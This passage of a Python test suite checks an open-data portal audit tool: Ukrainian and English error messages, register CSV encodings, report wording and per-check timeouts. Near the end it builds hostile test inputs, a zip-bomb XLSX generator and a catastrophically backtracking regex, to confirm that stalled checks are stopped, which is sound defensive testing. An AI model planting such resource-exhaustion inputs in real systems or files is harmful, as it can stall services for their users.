    missing = [f.params["uid"] for f in audit.findings if f.code == "register-missing"]
    assert "amk-dovidnyk" in missing
    assert {f.dataset for f in audit.findings if f.code == "register-unregistered"} == {
        "public-toilets",
        "bad-email",
    }


def test_register_in_another_structure_is_refused(dump, tmp_path):
    other = tmp_path / "other.csv"
    other.write_text("name,frequency\nx,monthly\n", encoding="utf-8")
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "o", "--register", other)
    assert result.returncode == 2
    lead, detail = result.stderr.strip().splitlines()  # no English «missing columns uid, title, …»
    assert lead == "Не вдалося прочитати реєстр наборів даних (додаток 7)."
    assert detail.startswith(f"Перший рядок файлу {other} — не назви стовпців реєстру (додаток 7), а реєстр їх "
                             "має: uid, title, description, accrualPeriodicity,")  # fmt: skip
    assert "Зразок — examples/audit-portal/register.csv у репозиторії opendata" in detail
    assert (Path(__file__).parent.parent / "examples" / "audit-portal" / "register.csv").is_file()
    half = tmp_path / "half.csv"
    half.write_text("uid,title,description,keywords\nx,X,,\n", encoding="utf-8")
    english = run_cli("audit", "--dump", dump, "--out", tmp_path / "o", "--register", half, "--lang", "en")
    assert english.stderr.splitlines()[1].startswith(
        f"The first line of {half} lacks the register's (Appendix 7) columns: accrualPeriodicity, purpose, url,"
    )
    as_json = run_cli("audit", "--dump", dump, "--out", tmp_path / "o", "--register", half, "--format", "json")
    assert as_json.returncode == 2 and json.loads(as_json.stdout)["error"] == "RegisterUnreadable"


def test_a_register_that_cannot_be_used_stops_the_audit_before_the_crawl(tmp_path):
    """It was read after the whole portal had been crawled: here, a portal that does
    not answer is not even asked."""
    other = tmp_path / "other.csv"
    other.write_text("name,frequency\nx,monthly\n", encoding="utf-8")
    result = run_cli("audit", "--portal", "http://127.0.0.1:9", "--out", tmp_path / "o", "--register", other)
    assert result.returncode == 2 and f"Перший рядок файлу {other} — не назви стовпців реєстру" in result.stderr


def _register_findings(out: Path) -> list[dict]:
    with (out / "findings.csv").open(encoding="utf-8", newline="") as stream:
        return [row for row in csv.DictReader(stream) if row["check"] == "register"]


@pytest.mark.parametrize("saved_as", ["ukrainian-excel", "windows-1251", "unicode-text"])
def test_a_register_saved_by_a_spreadsheet_is_read_as_the_original(dump, tmp_path, saved_as):
    """Excel's ";", byte-order mark and CRLF were a traceback (AttributeError) or
    "missing columns uid, title, …"; windows-1251 was the codec's raw error; Excel's
    "Unicode text" (UTF-16, tabs) "missing columns"."""
    original = Path(__file__).parent.parent / "examples" / "audit-portal" / "register.csv"
    register = tmp_path / "register.csv"
    if saved_as == "windows-1251":
        register.write_bytes(original.read_text(encoding="utf-8").encode("cp1251"))
    elif saved_as == "unicode-text":
        rows = list(csv.reader(original.open(encoding="utf-8", newline="")))
        text = "".join("\t".join(cell.replace("\t", " ") for cell in row) + "\r\n" for row in rows)
        register.write_bytes(text.encode("utf-16"))
    else:
        register.write_bytes(original.read_bytes())
        save_as_ukrainian_excel(register)
    expected = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--register", original)
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "b", "--register", register)
    assert (expected.returncode, result.returncode) == (0, 0), result.stderr
    assert _register_findings(tmp_path / "b") == _register_findings(tmp_path / "a") != []


def test_a_register_in_no_known_encoding_is_a_one_line_error(dump, tmp_path):
    register = tmp_path / "register.xlsx"
    register.write_bytes(bytes(range(256)) * 8)
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "o", "--register", register, "--lang", "en")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    lead, detail = result.stderr.strip().splitlines()
    assert lead == "The dataset register (Appendix 7) could not be read."
    assert detail == (f"The file {register} is no CSV text (neither UTF-8 nor windows-1251): save the register "
                      "as «CSV UTF-8».")


def test_an_audit_into_a_used_folder_leaves_no_earlier_comparison(dump, tmp_path):
    out = tmp_path / "out"
    assert run_cli("audit", "--dump", dump, "--out", tmp_path / "first").returncode == 0
    assert run_cli("audit", "--dump", dump, "--out", out, "--compare", tmp_path / "first").returncode == 0
    assert (out / "changes.csv").exists()
    assert run_cli("audit", "--dump", dump, "--out", out).returncode == 0
    assert not (out / "changes.csv").exists() and not (out / "schemas" / "changes.json").exists()
    assert run_cli("validate", out).returncode == 0


def test_an_audit_into_a_folder_of_other_files_is_refused(dump, plan_copy, tmp_path):
    """`--out datapackage` replaced the plan's datapackage.json with the audit's; a
    folder in use is refused (an earlier audit's, or an empty one, is written into)."""
    before = {path.name: path.read_bytes() for path in plan_copy.iterdir() if path.is_file()}
    result = run_cli("audit", "--dump", dump, "--out", plan_copy, "--format", "json")
    assert result.returncode == 2 and json.loads(result.stdout)["error"] == "OutputInUse"
    assert f"у папці «{plan_copy}» уже є інші файли" in result.stderr
    assert {path.name: path.read_bytes() for path in plan_copy.iterdir() if path.is_file()} == before
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / ".DS_Store").write_bytes(b"\0")  # empty, to the officer
    assert run_cli("audit", "--dump", dump, "--out", empty).returncode == 0


def test_the_change_table_says_a_dataset_improved_or_worsened_in_words(tmp_path):
    """«кращий/гірший» read as adjectives of nothing: a dataset «покращився/погіршився»."""
    def audit(out: str, *datasets: dict, compare: Path | None = None) -> str:
        dump = tmp_path / f"{out}.jsonl"
        dump.write_text("\n".join(json.dumps(d, ensure_ascii=False) for d in datasets), encoding="utf-8")
        more = ("--compare", compare) if compare else ()
        assert run_cli("audit", "--dump", dump, "--out", tmp_path / out, *more).returncode == 0
        return (tmp_path / out / "report.html").read_text(encoding="utf-8")

    untagged = {**GOOD, "name": "other", "tags": []}
    audit("before", {**GOOD, "tags": []}, GOOD | {"name": "other"})
    html = audit("after", GOOD, untagged, compare=tmp_path / "before")
    # by title (machine names were shown here only), linked to the dataset's findings if it has any
    assert "<tr><td>Громадські вбиральні</td><td>покращився</td>" in html
    assert '<tr><td><a href="#findings-other">Громадські вбиральні</a></td><td>погіршився</td>' in html
    assert '<details id="findings-other">' in html


def test_the_report_names_its_dump_file_and_datasets_and_says_severity_in_one_set_of_words(tmp_path):
    """Not «Портал: /tmp/…/portal.jsonl», nor machine names and a bare «…», nor
    «помилки» in the summary and «висока» in the tables; the date as a Ukrainian writes it."""
    datasets = [{**BAD_EMAIL, "name": f"bad-{n}", "title": f"Набір {n}"} for n in range(8)]
    audit = run_audit(dump=_dump_of(tmp_path, *datasets), audit_day=date(2026, 11, 28), check_links=False)
    write_outputs(audit, tmp_path / "out")
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "<p>Файл вивантаження: portal.jsonl · Дата аудиту: 28.11.2026</p>" in html
    assert "<th>Кількість наборів</th><th>Набори</th>" in html
    row = re.search(r"<td>8</td><td>(.*?)</td></tr>", html).group(1)
    assert row.startswith('<a href="#findings-bad-0">Набір 0</a>, ') and row.endswith("</a> … і ще 3")
    assert "(error у findings.csv)" in html
    assert not re.search(r"висока|середня|низька", html)


def test_compare_with_an_audit_of_another_organisation_is_refused(dump, tmp_path):
    """Year over year, another organisation's datasets would all be "new" and last
    year's all "removed": the comparison is refused, before any work is done."""
    first = tmp_path / "first"
    assert run_cli("audit", "--dump", dump, "--org", "kolomyia", "--out", first).returncode == 0
    whole = run_cli("audit", "--dump", dump, "--out", tmp_path / "all", "--compare", first)
    assert whole.returncode == 2 and not (tmp_path / "all").exists()
    assert "організацію «kolomyia», а цей — увесь портал" in whole.stderr
    other = run_cli(
        "audit", "--dump", dump, "--org", "lviv", "--out", tmp_path / "o", "--compare", first,
        "--format", "json", "--lang", "en",
    )  # fmt: skip
    assert other.returncode == 2 and json.loads(other.stdout)["error"] == "PreviousOfOtherOrganisation"
    assert "organisation «kolomyia», this one organisation «lviv»" in other.stderr
    same = run_cli("audit", "--dump", dump, "--org", "kolomyia", "--out", tmp_path / "s", "--compare", first)
    assert same.returncode == 0 and (tmp_path / "s" / "changes.csv").exists()


def _dump_of(tmp_path: Path, *datasets: dict) -> Path:
    path = tmp_path / "portal.jsonl"
    path.write_text("\n".join(json.dumps(d, ensure_ascii=False) for d in datasets) + "\n", encoding="utf-8")
    return path


def test_a_schema_in_the_resources_own_field_is_the_datasets_structure(tmp_path):
    """As `opendata publish` (and ckanext-validation) keeps it: the tool's own published
    dataset got "no data schema", an error, from its own audit."""
    table = {**GOOD["resources"][0], "schema": json.dumps({"fields": [{"name": "id", "type": "integer"}]})}
    published = {**GOOD, "name": "published-plan", "resources": [table]}
    bare = {**GOOD, "name": "no-schema", "resources": [GOOD["resources"][0]]}
    audit = run_audit(dump=_dump_of(tmp_path, published, bare), check_links=False)
    codes = {(f.dataset, f.code) for f in audit.findings}
    assert ("published-plan", "passport-no-schema") not in codes
    assert ("no-schema", "passport-no-schema") in codes


def test_a_dataset_holding_only_its_schema_has_no_data(tmp_path):
    """It got the schema's 3 stars and no finding: the schema was scored as the data."""
    only_schema = {**GOOD, "name": "only-schema", "resources": [GOOD["resources"][1]]}
    audit = run_audit(dump=_dump_of(tmp_path, only_schema), check_links=False)
    assert audit.datasets[0].stars == 0
    assert [f.code for f in audit.findings if f.severity == "error"] == ["stars-only-schema"]


def test_an_empty_register_file_is_unreadable(dump, tmp_path):
    """A save that failed: it was read as a register of no datasets, and every dataset
    of the portal was "not in the register"."""
    empty = tmp_path / "register.csv"
    empty.write_bytes(b"")
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "o", "--register", empty, "--lang", "en")
    assert result.returncode == 2 and f"The file {empty} is empty: save the register again" in result.stderr


def test_lost_points_agree_with_their_number(tmp_path):
    """«−3 балів»: one of two resources without its size loses 2 of the 5 points (2.5
    earned, rounded half up as people round; Python's round() made it 2, losing 3)."""
    half = {**GOOD, "name": "half", "resources": [GOOD["resources"][0], {**GOOD["resources"][1], "size": None}]}
    audit = run_audit(dump=_dump_of(tmp_path, half), check_links=False)
    [finding] = [f for f in audit.findings if f.code == "mqa-missing"]
    assert finding.render("uk")[0] == "Оцінка якості метаданих: немає поля «розмір файлу» (−2 бали, Контекст)."
    assert finding.render("en")[0] == "Metadata quality: no «file size» (−2 points, Contextuality)."
    assert audit.datasets[0].mqa["contextuality"] == 3 + 5 + 5


def test_a_missing_field_is_named_as_a_field(tmp_path):
    """«немає «категорія (група)»», «не заповнено «Частота оновлення»»: a label in the
    nominative where the verb asks for another case; «поле» takes the case instead."""
    no_group = {**GOOD, "groups": [], "extras": [e for e in GOOD["extras"] if e["key"] != "update_frequency"]}
    audit = run_audit(dump=_dump_of(tmp_path, no_group), check_links=False)
    [category] = [f for f in audit.findings if f.params.get("indicator") == "categories"]
    assert category.render("uk")[0].startswith("Оцінка якості метаданих: немає поля «категорія (група)» (−30")
    assert action(category.code, "uk", category.params) == "Додати до метаданих поле «категорія (група)»."
    [frequency] = [f for f in audit.findings if f.code == "passport-missing"]
    assert frequency.render("uk")[0] == (
        "У паспорті набору не заповнено поле «Частота оновлення» (update_frequency)."
    )


@pytest.mark.parametrize("evidence", ["kolomyia.example/audit-2021", "https://kolomyia.example/audit 2021"])
def test_record_refuses_evidence_that_is_no_link(dump, plan_copy, tmp_path, evidence):
    """The record was written, and validate then failed on it; the refusal's advice was
    about the plan's period, which was fine."""
    before = (plan_copy / "progress_reports.csv").read_bytes()
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", plan_copy,
                     "--date", "2021-11-15", "--evidence", evidence)  # fmt: skip
    assert result.returncode == 1
    assert f"«{evidence}»" in result.stderr and "--date" not in result.stderr
    assert (plan_copy / "progress_reports.csv").read_bytes() == before


def test_compare_with_a_folder_that_is_no_audit_names_what_is_missing(dump, tmp_path):
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--compare", tmp_path / "nothing")
    assert result.returncode == 2 and "Errno" not in result.stderr
    lead, detail = result.stderr.strip().splitlines()  # no English «not the output of a previous audit»
    assert lead == "Не вдалося прочитати попередній аудит (--compare)."
    assert detail == (f"У папці {tmp_path / 'nothing'} немає файлу datasets.csv, тож це не результат попереднього "
                      "аудиту. Вкажіть у --compare папку, яку записав торішній opendata audit --out (у ній є "
                      "datasets.csv і summary.json).")
    edited = tmp_path / "edited"  # an audit's folder with its summary.json edited into no JSON
    edited.mkdir()
    (edited / "datasets.csv").write_text("name,score\n", encoding="utf-8")
    (edited / "summary.json").write_text("{", encoding="utf-8")
    english = run_cli("audit", "--dump", dump, "--out", tmp_path / "b", "--compare", edited, "--lang", "en",
                      "--format", "json")  # fmt: skip
    assert english.returncode == 2 and json.loads(english.stdout)["error"] == "PreviousUnreadable"
    assert f"The file summary.json in {edited} is not as opendata audit writes it" in english.stderr


def test_the_findings_sections_follow_the_table_and_say_the_whole_portal(dump, tmp_path):
    """They came in a random order, headed by names where the table shows titles, and
    the register's portal-wide findings under «—»."""
    register = Path(__file__).parent.parent / "examples" / "audit-portal" / "register-example.csv"
    assert run_cli("audit", "--dump", dump, "--out", tmp_path / "o", "--register", register).returncode == 0
    html = (tmp_path / "o" / "report.html").read_text(encoding="utf-8")
    table = re.findall(r"<tr><td>(?:<a [^>]*>)?([^<]+)(?:</a>)?</td><td>\d+</td>", html)
    sections = [title for title, _ in re.findall(r"<summary>(.+) \((\d+)\)</summary>", html)]
    assert sections == [*table, "Увесь портал (звірка з реєстром)"] and "—" not in sections
    markdown = (tmp_path / "o" / "report.md").read_text(encoding="utf-8")
    headings = [line[4:] for line in markdown.splitlines() if line.startswith("### ")]
    assert [re.sub(r" \(`[a-z0-9_-]+`\)$", "", heading) for heading in headings] == sections


def test_the_markdown_report_names_each_dataset_beside_its_title(dump, tmp_path):
    """report.md showed titles alone: two datasets of the same title were one line twice,
    and a reader could not find either on the portal (…/dataset/NAME) or in the register."""
    assert run_cli("audit", "--dump", dump, "--out", tmp_path / "o").returncode == 0
    markdown = (tmp_path / "o" / "report.md").read_text(encoding="utf-8")
    for name in ("public-toilets", "bad-email"):
        assert re.search(rf"^\| Громадські вбиральні \(`{name}`\) \| \d+ \|", markdown, re.M), markdown
    assert "### Громадські вбиральні (`bad-email`)" in markdown.splitlines()


@pytest.mark.parametrize("timeout", ["0", "-5"])
def test_a_timeout_below_a_second_is_a_usage_error(dump, tmp_path, timeout):
    """It was urllib3's ValueError, a traceback, exit 1."""
    result = run_cli("audit", "--dump", dump, "--links", "--out", tmp_path / "o", "--timeout", timeout)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "неприпустиме значення «--timeout»: потрібне число не менше 1" in result.stderr


def _register(tmp_path: Path, *rows: dict) -> Path:
    from opendata.audit.register import REGISTER_COLUMNS

    path = tmp_path / "register.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, REGISTER_COLUMNS, restval="")
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_a_register_row_is_matched_by_the_datasets_id_and_read_as_it_shows(tmp_path):
    """A row whose url has the dataset's id (…/dataset/<uuid>, as the portal's pages show
    it) matched nothing: "registered but not on the portal" and "not in the register"; a
    frequency «Щокварталу » was not the portal's «Щокварталу»; a repeated uid silently
    replaced the row before it."""
    quarterly = [{"key": "update_frequency", "value": "Щокварталу"}]
    by_id = {**GOOD, "name": "budget", "id": "1b9c0a4e-8f4e-4d7a-9a59-000000000001", "extras": quarterly}
    register = _register(
        tmp_path,
        {"uid": "r-1", "title": "Бюджет", "accrualPeriodicity": "Щокварталу ",
         "url": f"https://data.example.gov.ua/dataset/{by_id['id']}"},
        {"uid": "public-toilets", "title": "Вбиральні", "accrualPeriodicity": "Щомісяця"},
        {"uid": "public-toilets", "title": "Вбиральні (стара)", "accrualPeriodicity": "Щороку"},
    )  # fmt: skip
    audit = run_audit(dump=_dump_of(tmp_path, GOOD, by_id), check_links=False, register_file=register)
    found = [(f.code, f.dataset) for f in audit.findings if f.check == "register"]
    assert found == [("register-duplicate", "public-toilets")]
    [duplicate] = [f for f in audit.findings if f.check == "register"]
    assert duplicate.render("uk")[0] == (
        "Набір «public-toilets» записано в реєстрі двічі (рядки 3 і 4); звірено лише рядок 3."
    )


def test_a_licence_not_specified_is_said_once(tmp_path):
    """«notspecified» was both the passport's missing licence and «Ліцензія «notspecified»
    не є відкритою», and counted in two recommendations."""
    audit = run_audit(dump=_dump_of(tmp_path, {**GOOD, "license_id": "notspecified"}), check_links=False)
    licence = [(f.code, f.params.get("field")) for f in audit.findings if f.check in ("passport", "stars")]
    assert licence == [("passport-missing", "license_id")]
    assert audit.datasets[0].stars == 0


def test_a_portal_audited_without_links_is_not_called_a_dump(tmp_path):
    """--no-links on a portal said «(аудит файлу вивантаження)», and report.md said nothing."""
    from opendata.audit.model import Audit
    from opendata.audit.report import write_outputs

    audit = Audit(portal="https://data.example.gov.ua", organization=None, audit_date="2026-11-28", year=2026)
    audit.links_checked = False
    write_outputs(audit, tmp_path / "o")
    note = "Посилання не перевірялися (--no-links): бали за доступні посилання не нараховано"
    for report in ("report.html", "report.md"):
        text = (tmp_path / "o" / report).read_text(encoding="utf-8")
        assert note in text and "вивантаження" not in text


def test_run_audit_takes_a_dump_as_text_and_needs_a_portal_or_a_dump(dump, tmp_path):
    """run_audit(dump="…jsonl") failed on «'str' object has no attribute 'open'», and
    run_audit() with neither on «'NoneType' object has no attribute 'lower'»."""
    audit = run_audit(dump=str(dump), check_links=False)
    assert [d.name for d in audit.datasets] == ["public-toilets", "bad-email"]
    write_outputs(audit, str(tmp_path / "out"))
    assert (tmp_path / "out" / "report.html").is_file()
    with pytest.raises(ValueError, match=r"portal=\.\.\.\) or a dump file \(dump="):
        run_audit()


def test_the_library_writes_no_audit_over_a_data_package(dump, tmp_path):
    """write_outputs() replaced the plan's datapackage.json with the audit's: only the
    command refused a folder in use.  An earlier audit's folder is written over."""
    from opendata.audit.report import OutputInUse, write_outputs

    package = tmp_path / "package"
    shutil.copytree(PACKAGE, package)
    before = {path: path.read_bytes() for path in package.rglob("*") if path.is_file()}
    audit = run_audit(dump=dump, check_links=False)
    with pytest.raises(OutputInUse, match="package"):
        write_outputs(audit, package)
    assert {path: path.read_bytes() for path in package.rglob("*") if path.is_file()} == before
    write_outputs(audit, tmp_path / "audit")
    write_outputs(audit, tmp_path / "audit")  # next year's, say: an audit's folder is replaced
    assert (tmp_path / "audit" / "report.html").is_file()


def test_the_audit_date_reads_as_a_date_in_the_help():
    assert "--date YYYY-MM-DD" in run_cli("audit", "--help", "--lang", "en").stdout


def test_an_audit_that_cannot_be_written_whole_leaves_the_earlier_one(dump, tmp_path, monkeypatch):
    """A disk that filled up halfway left a folder of some new files and some old, which
    was no audit folder any more: every later run refused it as "other files"."""
    from opendata.audit import report

    out = tmp_path / "audit"
    assert run_cli("audit", "--dump", dump, "--out", out, "--date", "2025-06-01").returncode == 0
    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}  # a year ago's

    def disk_full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(report, "_templates", disk_full)  # after the tables, before the report
    with pytest.raises(OSError):
        report.write_outputs(run_audit(dump=dump, audit_day=None), out)
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit", "portal.jsonl"]  # nothing left beside
    assert run_cli("audit", "--dump", dump, "--out", out).returncode == 0


def test_a_dataset_of_a_finished_period_is_not_overdue_for_ever(tmp_path):
    """Last year's plan, updated when its period ended, was "overdue" at every later
    audit, with "Оновіть дані" as the fix: its data is complete, nothing is to add."""
    quarterly = [{"key": "update_frequency", "value": "Щокварталу"}, {"key": "last_modified", "value": "2022-01-10"}]
    finished = {**GOOD, "name": "plan-2021", "extras": [*quarterly, {"key": "temporal_end", "value": "2021-12-31"}]}
    running = {**GOOD, "name": "plan-2022", "extras": [*quarterly, {"key": "temporal_end", "value": "2027-12-31"}]}
    stale = {**GOOD, "name": "plan-2020", "extras": [*quarterly[:1], {"key": "last_modified", "value": "2021-02-01"},
                                                     {"key": "temporal_end", "value": "2021-12-31"}]}
    dump = tmp_path / "portal.jsonl"
    dump.write_text("\n".join(json.dumps(d, ensure_ascii=False) for d in (finished, running, stale)), "utf-8")
    audit = run_audit(dump=dump, check_links=False, audit_day=date(2026, 11, 28))
    overdue = {d.name: d.overdue for d in audit.datasets}
    # updated after its period ended: complete; updated long before its end: it was not
    assert overdue == {"plan-2021": False, "plan-2022": True, "plan-2020": True}


def test_an_audit_that_saw_private_datasets_compared_with_one_that_did_not_says_so(dump, tmp_path):
    """A private dataset seen only with a token showed as «новий» against last year's
    audit without one, with no word that the two saw different datasets."""
    before = tmp_path / "before"
    assert run_cli("audit", "--dump", dump, "--out", before).returncode == 0
    summary = json.loads((before / "summary.json").read_text(encoding="utf-8"))
    (before / "summary.json").write_text(json.dumps({**summary, "public_only": True}), encoding="utf-8")
    now = run_cli("audit", "--dump", dump, "--out", tmp_path / "now", "--compare", before, "--format", "json")
    assert now.returncode == 0, now.stderr
    assert "public_only" in json.loads(now.stdout)["previous"]["not_compared"]
    assert "закриті набори: один аудит бачив їх з API-токеном" in now.stderr


def test_record_into_a_folder_that_is_no_plan_is_refused_before_the_audit(dump, plan_copy, tmp_path):
    """A mistyped --plan was found only after the whole crawl, as «not UTF-8 CSV», exit 1."""
    missing = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", tmp_path / "nope")
    assert missing.returncode == 2
    assert f"«{tmp_path / 'nope'}» — не пакет даних плану: такої папки немає." in missing.stderr
    assert "Аудит не розпочато." in missing.stderr and not (tmp_path / "a").exists()
    (plan_copy / "task_roles.csv").unlink()
    no_table = run_cli("audit", "--dump", dump, "--out", tmp_path / "b", "--record", "--plan", plan_copy,
                       "--lang", "en", "--format", "json")  # fmt: skip
    assert no_table.returncode == 2 and not (tmp_path / "b").exists()
    failure = json.loads(no_table.stdout)
    assert failure["error"] == "NotAPlan"
    assert "it has no table task_roles, or the table cannot be read as CSV" in failure["message"]


def test_record_into_a_plan_whose_period_is_not_in_its_schemas_format_names_the_cell(
    dump, plan_copy, tmp_path
):
    """A period «2021-04-01» under a «%d.%m.%Y» schema was «не пакет даних плану: у
    decision.csv немає періоду плану… Вкажіть у --plan папку пакета плану»: the period is
    there, and the folder is the plan's; the cell is what to fix."""
    rewrite_field(plan_copy, "decision", "period_start", DAY_FIRST, lambda cell: cell)
    result = run_cli("audit", "--dump", dump, "--out", tmp_path / "a", "--record", "--plan", plan_copy)
    assert result.returncode == 2 and not (tmp_path / "a").exists()
    message = " ".join(result.stderr.split())
    assert "не пакет даних плану" not in message and "Вкажіть у --plan" not in message
    assert "клітинка period_start у decision.csv — «2021-04-01», а схема таблиці читає дати у форматі %d.%m.%Y" in (
        message
    )
    assert "Запишіть дату в цьому форматі, наприклад «01.04.2021»" in message
    assert "Аудит не розпочато." in message
    english = run_cli("audit", "--dump", dump, "--out", tmp_path / "b", "--record", "--plan", plan_copy,
                      "--lang", "en", "--format", "json")  # fmt: skip
    failure = json.loads(english.stdout)
    assert english.returncode == 2 and failure["error"] == "PlanPeriodUnreadable"
    assert "period_start in decision.csv is «2021-04-01», but the table's schema reads" in failure["message"]
    assert "Write the date in that format, such as «01.04.2021»" in failure["message"]


def test_the_coverage_fixes_say_extra_in_ukrainian_words(dump, tmp_path):
    """«Додайте extra «spatial»»: an English word, unexplained, in a Ukrainian sentence."""
    out = tmp_path / "out"
    assert run_cli("audit", "--dump", dump, "--out", out).returncode == 0
    with (out / "findings.csv").open(encoding="utf-8", newline="") as stream:
        fixes = {row["recommendation"] for row in csv.DictReader(stream) if row["dataset"] == "bad-email"}
    assert "Додайте додаткове поле (extra) «spatial» (наприклад, «Коломия»)." in fixes
    assert "Додайте додаткові поля (extras) «temporal_start» і «temporal_end»." in fixes


class _QuietFiles(SimpleHTTPRequestHandler):
    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def files(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """A folder served over HTTP on 127.0.0.1: (the folder, its address)."""
    folder = tmp_path / "served"
    folder.mkdir()
    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_QuietFiles, directory=folder))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield folder, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _zip_bomb(path: Path, rows: int = 2000, cells: int = 1000) -> None:
    """A workbook of ~75 KB whose sheet unpacks to ~30 MB of XML: its check takes ~12 s."""
    from openpyxl import Workbook

    book = io.BytesIO()
    Workbook().save(book)
    with zipfile.ZipFile(book) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(item, source.read(item.filename))
                continue
            row = b"<c><v>1</v></c>" * cells
            with bomb.open(item.filename, "w") as sheet:  # no <dimension>: every row is read
                sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                for number in range(1, rows + 1):
                    sheet.write(b'<row r="%d">%s</row>' % (number, row))
                sheet.write(b"</sheetData></worksheet>")


BACKTRACKING = {"fields": [{"name": "code", "type": "string", "constraints": {"pattern": "(a+)+$"}}]}
MARK = "OPENDATA_TEST_AUDIT"  # in the environment of the audit and of every process it starts


def _hostile_dump(tmp_path: Path, files: tuple[Path, str]) -> Path:
    """A dataset of two files whose checks never end in time (a schema's pattern that
    backtracks for ever on its one cell, a zip bomb), and after it one of a table with an
    error."""
    folder, url = files
    (folder / "codes.csv").write_text("code\n" + "a" * 40 + "!\n", encoding="utf-8")
    _zip_bomb(folder / "bomb.xlsx")
    (folder / "parks.csv").write_text("назва,кількість\nпарк,3\n", encoding="utf-8")
    parks_schema = {"fields": [{"name": "назва", "type": "string"}, {"name": "кількість", "type": "date"}]}

    def resource(name: str, fmt: str, schema: dict | None = None) -> dict:
        return {"id": name, "name": name, "format": fmt, "url": f"{url}/{name}",
                **({"schema": json.dumps(schema)} if schema else {})}  # fmt: skip
    hostile = {**GOOD, "name": "hostile", "resources": [resource("codes.csv", "CSV", BACKTRACKING),
                                                        resource("bomb.xlsx", "XLSX")]}  # fmt: skip
    parks = {**GOOD, "name": "parks", "resources": [resource("parks.csv", "CSV", parks_schema)]}
    return _dump_of(tmp_path, hostile, parks)


def _marked(mark: str) -> list[int]:
    """The processes running with MARK=mark in their environment."""
    found = []
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            if f"{MARK}={mark}".encode() in environ.read_bytes().split(b"\0"):
                found.append(int(environ.parent.name))
        except OSError:  # ended meanwhile
            continue
    return found


@pytest.mark.timeout(60)
def test_a_check_that_runs_out_of_time_is_stopped_named_and_the_audit_goes_on(tmp_path, files):
    """A zip bomb took 12 s of the audit here (more on a real portal), and a schema's pattern
    «(a+)+$» on «aaa…a!» kept it busy for ever: one resource stalled the audit of a portal."""
    dump, mark, out = _hostile_dump(tmp_path, files), uuid.uuid4().hex, tmp_path / "out"
    started = time.monotonic()
    result = run_cli("audit", "--dump", dump, "--links", "--internal-links", "--out", out,
                     "--check-timeout", "2", env={**os.environ, MARK: mark})  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert time.monotonic() - started < 30
    assert _marked(mark) == []  # no worker left running
    findings = {(row["resource_name"], row["code"]): row for row in _csv_rows(out / "findings.csv")
                if row["check"] == "validity"}  # fmt: skip
    assert set(findings) == {("codes.csv", "validity-timeout"), ("bomb.xlsx", "validity-timeout"),
                             ("parks.csv", "validity-errors")}  # fmt: skip
    timeout = findings["codes.csv", "validity-timeout"]
    assert (timeout["dataset"], timeout["severity"]) == ("hostile", "warning")
    assert timeout["message"] == (
        "Перевірку даних таблиці «codes.csv» зупинено: вона тривала понад 2 с. Так буває з файлом, що після "
        "розпакування займає сотні мегабайтів (XLSX), або зі схемою, чий шаблон (pattern) перевіряється надто "
        "довго; дані не перевірено."
    )
    assert timeout["recommendation"] == (
        "Завантажте файл і перевірте його окремо: opendata validate ФАЙЛ (зі схемою набору: --schema "
        "СХЕМА.json); якщо файл справді такий великий, проведіть аудит із більшим --check-timeout."
    )
    assert findings["parks.csv", "validity-errors"]["message"].startswith(
        "Таблиця «parks.csv» не відповідає схемі набору: 1 помилка, наприклад, рядок 2, поле «кількість»: "
    )
    checked = {row["name"]: (row["rows"], row["valid"]) for row in _csv_rows(out / "resources.csv")}
    assert checked == {"codes.csv": ("", ""), "bomb.xlsx": ("", ""), "parks.csv": ("1", "false")}


@pytest.mark.timeout(60)
def test_run_audit_takes_a_time_limit_of_each_check_and_leaves_no_process(tmp_path, files):
    """`run_audit(check_timeout=)`, its finding in English, and no child process after it."""
    folder, url = files
    (folder / "codes.csv").write_text("code\n" + "a" * 40 + "!\n", encoding="utf-8")
    table = {"id": "codes", "name": "codes.csv", "format": "CSV", "url": f"{url}/codes.csv",
             "schema": json.dumps(BACKTRACKING)}  # fmt: skip
    dump = _dump_of(tmp_path, {**GOOD, "resources": [table]})
    audit = run_audit(dump=dump, check_links=True, internal_links=True, check_timeout=1)
    [finding] = [f for f in audit.findings if f.check == "validity"]
    assert finding.render("en") == (
        "The data check of the table «codes.csv» was stopped: it ran over 1 s. This happens with a file that "
        "unpacks to hundreds of megabytes (XLSX) or a schema whose pattern takes too long to check; the data "
        "was not checked.",
        "Download the file and check it on its own: opendata validate FILE (with the dataset's schema: "
        "--schema SCHEMA.json); if the file really is that big, run the audit with a larger --check-timeout.",
    )
    assert (audit.resources[0].rows, audit.resources[0].valid) == (None, None)
    children = " ".join(p.read_text() for p in Path(f"/proc/{os.getpid()}/task").glob("*/children")).split()
    commands = [Path(f"/proc/{child}/cmdline").read_bytes() for child in children]
    assert [command for command in commands if b"opendata.audit.worker" in command] == []


@pytest.mark.timeout(60)
def test_ctrl_c_during_a_check_leaves_no_worker_running(tmp_path, files):
